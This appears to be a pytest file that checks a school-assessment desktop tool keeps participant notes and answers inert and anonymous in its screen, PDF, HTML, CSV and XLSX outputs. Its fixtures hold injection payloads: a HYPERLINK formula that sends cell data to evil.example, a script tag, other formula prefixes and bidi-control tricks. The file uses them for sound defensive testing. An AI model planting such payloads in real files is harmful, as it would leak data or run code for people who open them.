"""Attacks on the written answers and notes as the team receives them (issue 16 item 4).

One real store, people in small and large groups, notes shown on one competency and withheld on
another, answers to questions for adults and for the one learner, hostile text in every shape.
Every shared output (the Consensus screen on every competency, the report PDF and its HTML twin,
the summary CSV and XLSX) must show exactly the texts :func:`core.written.cycle_written` shows,
the same number of times, never a name, and every text inert (no markup, no formula).
"""

from __future__ import annotations

import csv
import html
import io
import re
from pathlib import Path

import pytest
from pytestqt.qtbot import QtBot
from report_helpers import pdf_text, qpdf_check

from navtool_desktop.core.records import Cycle, District, Participant, QuestionResponse, Rating
from navtool_desktop.core.written import cycle_written
from navtool_desktop.exchange.tables import export_table
from navtool_desktop.framework import Pack
from navtool_desktop.reports import render_report
from navtool_desktop.reports.data import load_report
from navtool_desktop.storage.repository import DistrictStore, Repository

pytestmark = pytest.mark.gui

EVERYONE, TWO_ONLY = "agency.voice", "agency.goal-setting"
#: name, role group; Rosa is entered twice (a second laptop), so the educators are three people
PEOPLE = (("Rosa Martínez", "educator"), ("Tomás Vigil", "educator"), ("Ana Lucero", "educator"),
          ("ROSA  MARTÍNEZ", "educator"), ("Dana Whitehorse", "leader"), ("L-07", "learner"))
#: Texts that start like a formula, carry markup, turn text around or join invisibly. Each
#: holds a marker ("Mk" and two letters) that must appear in an output exactly when it is shown.
NOTES = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"MkAA click\")", "+MkAB 1", "-MkAC 2",
         "<script>alert('MkAE')</script> & <b>bold</b>", "MkAF \u202eevil\u202c \u2067isolate MkAF",
         "MkAJ " + "ж" * 1_000_000)
ANSWERS = ("@SUM(1) MkAD", "MkAG fam\u200dily zero\u200bwidth", "MkAH one\u2029  \u2022 MkAH forged second note",
           "MkAI مرحبا بكم שלום")


@pytest.fixture
def district(repo: Repository, pack: Pack) -> tuple[DistrictStore, str]:
    store = repo.create_district(District(name="Distrito de Peñasco"))
    cycle = Cycle(title="Spring retreat", date="2027-03-12", scope=("agency",), framework_id=pack.id,
                  framework_version=pack.version)
    store.create_cycle(cycle)
    people = [store.save_participant(cycle.id, Participant(name=n, role_group=g)) for n, g in PEOPLE]
    notes, answers = iter(NOTES), iter(ANSWERS)
    for person in people:
        store.save_rating(cycle.id, Rating(participant_id=person.id, competency_id=EVERYONE,
                                           level="developing", note=next(notes)))
    # the same person twice and one more: two people rated this, so their notes are withheld
    for n, person in enumerate(people[:1] + people[3:4] + people[1:2]):
        if n < 2:
            store.save_rating(cycle.id, Rating(participant_id=person.id, competency_id=TWO_ONLY,
                                               level="refining", note=f"MkB{'AB'[n]} only two of us"))
    condition = pack.condition("agency")
    adults, learners = condition.questions["educators_leaders_community"][0], condition.questions["learners"][0]
    for person in people[1:5]:
        store.save_response(cycle.id, QuestionResponse(participant_id=person.id, question_id=adults.id,
                                                       text=next(answers)))
    store.save_response(cycle.id, QuestionResponse(participant_id=people[5].id, question_id=learners.id,
                                                   text="MkCA Teachers never told us."))
    store.save_response(cycle.id, QuestionResponse(participant_id=people[5].id, question_id=adults.id,
                                                   text="MkCB the learner answered the adults' question too"))
    return store, cycle.id


def _markers(text: str) -> list[str]:
    return sorted(re.findall(r"Mk[A-Z]{2}", text))


def test_every_output_shows_exactly_the_texts_the_rule_shows(
        qtbot: QtBot, pack: Pack, district: tuple[DistrictStore, str], tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    from openpyxl import load_workbook

    from navtool_desktop.reports.report import render_report_with_twin
    from navtool_desktop.ui.consensus_screen import ConsensusScreen

    store, cycle_id = district
    data = store.cycle(cycle_id)
    written = cycle_written(pack, store.results.cycle(pack, cycle_id), data.participants.values(),
                            data.ratings.values(), data.responses.values())
    shown = [t for n in written.notes.values() for t in n.texts]
    shown += [t for a in written.answers.values() for q in a for t in q.texts]
    # each marker as many times as the rule shows it (MkAF and MkAH are written twice in one text)
    expected = sorted(m for t in shown for m in re.findall(r"Mk[A-Z]{2}", t))
    assert "MkAA" in expected and "MkCB" in expected
    assert not {"MkBA", "MkBB", "MkCA"} & set(expected)  # two writers; the one learner

    screen = ConsensusScreen(pack, store)
    qtbot.addWidget(screen)
    screen.show()
    by_competency = []
    for row in range(len(screen.results.competencies)):
        screen.go_to(row)
        by_competency.append(screen.written_view.toPlainText())
    # the answers show with every competency of their condition: count them on one
    answer_markers = set(_markers(" ".join((*ANSWERS, "MkCA MkCB"))))
    on_screen = sorted(_markers(by_competency[0]) + [
        m for page in by_competency[1:] for m in _markers(page) if m not in answer_markers])

    pdf, twin = render_report_with_twin(pack, load_report(store, pack, cycle_id))
    twins = [twin]
    assert qpdf_check(pdf, tmp_path).returncode == 0
    in_pdf = pdf_text(pdf, tmp_path)
    twin_text = html.unescape(re.sub(r"<[^>]+>", " ", twins[0]))
    assert "<script>" not in twins[0] and "&lt;script&gt;" in twins[0]

    table = tmp_path / "summary.csv"
    export_table(store, pack, table, what="summary", cycle_id=cycle_id)
    cells = [c for row in csv.reader(io.StringIO(table.read_bytes().decode("utf-8-sig"))) for c in row]
    book = tmp_path / "summary.xlsx"
    export_table(store, pack, book, what="summary", cycle_id=cycle_id)
    xlsx = [str(c) for row in load_workbook(book).active.iter_rows(values_only=True) for c in row if c]

    outputs = {"screen": on_screen, "pdf": _markers(in_pdf), "twin": _markers(twin_text),
               "csv": _markers("\n".join(cells)), "xlsx": _markers("\n".join(xlsx))}
    # and the same texts withheld: the notes on the competency two people rated, the learners' answers
    withheld = {"screen": by_competency[0].count("Not shown:"), "pdf": " ".join(in_pdf.split()).count("Not shown:"),
                "twin": twin_text.count("Not shown:"), "csv": sum("Not shown:" in c for c in cells),
                "xlsx": sum("Not shown:" in c for c in xlsx)}
    assert withheld == dict.fromkeys(withheld, 2), withheld
    for name, found in outputs.items():
        assert found == expected, name
    for text in (by_competency[0], in_pdf, twin_text, *cells, *xlsx):
        assert not any(n.casefold() in text.casefold() for n, _g in PEOPLE), text[:80]
    # in a spreadsheet every text starting like a formula is text
    for cell in (*cells, *xlsx):
        assert not cell.startswith(("=", "+", "-", "@")), cell


def test_a_coachs_summary_carries_no_written_text(pack: Pack, district: tuple[DistrictStore, str]) -> None:
    """Whatever people wrote, and who they are, never leaves in a district summary."""
    import orjson

    from navtool_desktop.core.records import Consensus, Tally
    from navtool_desktop.network.summary import build_summary

    store, cycle_id = district
    store.save_consensus(cycle_id, Consensus(competency_id=EVERYONE, level="developing",
                                             rationale="MkDA the team's rationale"))
    store.save_tally(cycle_id, Tally(competency_id=EVERYONE, role_group="community_member",
                                     counts={"developing": 4}, entered_by="MkDB Pat Facilitator"))
    store.save_cycle(store.get_cycle(cycle_id).replace(status="closed"))
    summary = orjson.dumps(build_summary(store, pack)).decode()
    assert len(summary) > 500 and '"cycles":[{' in summary  # the closed cycle is in it
    assert "Mk" not in summary, re.findall(r"Mk[A-Z]{2}", summary)
    assert not any(part.casefold() in summary.casefold() for n, _g in PEOPLE for part in n.split())


@pytest.mark.xfail(strict=True, reason="left open: the rule has no memory; two exports of one cycle, "
                   "before and after a person is removed, differ by that person's texts (see the docstring)")
def test_one_cycle_exported_again_after_someone_is_removed_does_not_give_their_texts(
        pack: Pack, district: tuple[DistrictStore, str], tmp_path: Path) -> None:
    """Left open, as for counts (README, "Left open"): the rule has no memory. The facilitator
    reopens a closed cycle to remove someone (or merge a person entered twice, whose older
    rating and note on a competency both rated then go; or someone rates late); the summary made
    before and the one made after differ by that person's texts. A closed cycle cannot change
    until it is reopened, and the report's cover then says "still open: results may change"."""
    store, cycle_id = district
    data = store.cycle(cycle_id)

    def texts() -> set[str]:
        out = tmp_path / "summary.csv"
        export_table(store, pack, out, what="summary", cycle_id=cycle_id)
        return set(_markers(out.read_bytes().decode("utf-8-sig")))

    def status(to: str) -> None:
        store.save_cycle(store.get_cycle(cycle_id).replace(status=to))

    status("closed")
    before = texts()
    status("open")
    tomas = next(p for p in data.participants.values() if p.name == "Tomás Vigil")
    store.delete_participant(cycle_id, tomas.id)
    status("closed")
    after = texts()
    # the difference is Tomás's note and answer: what he wrote, to anyone who saw both and knows he left
    assert before - after != {"MkAB", "MkAD"}


@pytest.mark.parametrize("note", ["שלום", "مرحبا بكم", "नमस्ते दुनिया", "Sí, שלום"])
def test_a_note_in_hebrew_arabic_or_devanagari_prints(pack: Pack, note: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """The report quotes each note in \u201c\u201d; a word that mixes the quote mark (DejaVu) with a
    shaped script (Noto) was shaped again when ReportLab laid the note out a second time (in
    the competency's KeepTogether block), and the whole report failed to export."""
    from datetime import date

    from navtool_desktop.core.results import CycleInput, cycle_results
    from navtool_desktop.reports import ReportInput
    from navtool_desktop.reports.report import render_report_with_twin

    cycle = Cycle(title="Spring", date="2027-03-12", scope=("agency",), framework_id=pack.id,
                  framework_version=pack.version)
    people = tuple(Participant(name=f"p{n}", role_group="educator") for n in range(3))
    ratings = tuple(Rating(participant_id=p.id, competency_id=EVERYONE, level="developing",
                           note=note if n == 0 else "") for n, p in enumerate(people))
    results = cycle_results(pack, CycleInput(cycle, people, ratings))
    pdf, twin = render_report_with_twin(pack, ReportInput(District(name="D"), results, ratings, date(2027, 3, 13),
                                                          None, people, ()))
    assert pdf.startswith(b"%PDF") and note in html.unescape(twin)


@pytest.mark.parametrize("short", ["\u200b\u2066", "\u200e\u200b=(\u2029\n'\u0301@ "])
def test_long_notes_and_a_long_devanagari_answer_print(pack: Pack, short: str) -> None:
    """Found by fuzzing: a long shaped answer ReportLab cannot split ("Splitting error") makes
    the report lay itself out again without shaping; that second layout reused the notes the
    first had already laid out, and gave up on a short one ("too large on page 5")."""
    from datetime import date

    from navtool_desktop.core.results import CycleInput, cycle_results
    from navtool_desktop.reports import ReportInput

    long_word = "x" * 5000 + "नमस्ते"
    notes = ("", "'" + "ж" * 300 + "\ufffe\u200f" + "ж" * 300 + "\x07", long_word, short, "ж" * 300 + "\n")
    answers = ("", notes[1][::-1], long_word[::-1], "", "")
    cycle = Cycle(title="Spring", date="2027-03-12", scope=("agency",), framework_id=pack.id,
                  framework_version=pack.version)
    people = tuple(Participant(name=f"p{n}", role_group="educator") for n in range(len(notes)))
    ratings = tuple(Rating(participant_id=p.id, competency_id=EVERYONE, level="developing", note=n)
                    for p, n in zip(people, notes, strict=True))
    question = pack.condition("agency").questions["educators_leaders_community"][0].id
    responses = tuple(QuestionResponse(participant_id=p.id, question_id=question, text=a)
                      for p, a in zip(people, answers, strict=True) if a)
    results = cycle_results(pack, CycleInput(cycle, people, ratings))
    pdf = render_report(pack, ReportInput(District(name="D"), results, ratings, date(2027, 3, 13), None, people,
                                          responses))
    assert pdf.startswith(b"%PDF")
